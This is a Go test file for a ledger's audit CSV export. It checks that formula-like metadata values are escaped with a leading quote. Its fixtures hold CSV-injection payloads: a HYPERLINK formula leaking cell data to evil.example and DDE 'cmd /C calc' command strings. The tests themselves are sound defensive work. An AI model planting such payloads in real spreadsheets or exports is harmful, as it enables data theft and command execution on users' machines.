package audit_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/craftledger/craftledger/events"
	"github.com/craftledger/craftledger/events/chain"
	"github.com/craftledger/craftledger/pkg/audit"
	"github.com/craftledger/craftledger/pkg/audit/audittest"
	"github.com/craftledger/craftledger/pkg/eventstore"
)

// TestExportCSVFormulaCells: ids a client once sent unchecked, stored in
// an event's metadata as a spreadsheet formula (=HYPERLINK, a DDE
// command, @SUM, a leading tab), are exported as text with a leading ',
// as the web UI's CSV export writes them; other cells are unchanged.
func TestExportCSVFormulaCells(t *testing.T) {
	st, _ := audittest.Store(t)
	const (
		correlation = `=HYPERLINK("http://evil.example/?"&A1,"open")`
		causation   = `+cmd|' /C calc'!A0`
		actor       = `@SUM(1+1)*cmd|' /C calc'!A0`
		source      = "\t=1+1"
	)
	reg := audittest.Career("c-f1")[0]
	typ, data, err := events.Encode(reg.Payload)
	if err != nil {
		t.Fatal(err)
	}
	m := events.NewMetadata(typ, reg.Occurred, reg.Issuer, actor)
	m.CorrelationID, m.CausationID, m.Source = correlation, causation, source
	_, meta, err := chain.Seal("", typ, data, m)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Append(ctx(t), events.CraftsmanStream("c-f1"), eventstore.NoStream(),
		eventstore.EventData{ID: audittest.UUID("c-f1", 0), Type: typ, ContentType: "application/json", Data: data, Metadata: meta}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	w, err := audit.NewCSVWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := audit.Export(ctx(t), st, audit.ExportOptions{CraftsmanID: "c-f1"}, w); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	want := map[string]string{"acting_user": "'" + actor, "source": "'" + source, "correlation_id": "'" + correlation,
		"causation_id": "'" + causation, "stream": "craftsman-c-f1", "issuer": reg.Issuer, "type": typ, "data": string(data)}
	for k := range got {
		if _, ok := want[k]; !ok {
			delete(got, k)
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("cells (-want +got):\n%s", diff)
	}
}

func TestSpreadsheetText(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "c-1": "c-1", "{\"a\":1}": "{\"a\":1}", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x",
		"\tx": "'\tx", "\rx": "'\rx", "x=1": "x=1", "'=1": "'=1",
	} {
		if got := audit.SpreadsheetText(in); got != want {
			t.Errorf("SpreadsheetText(%q) = %q, want %q", in, got, want)
		}
	}
}
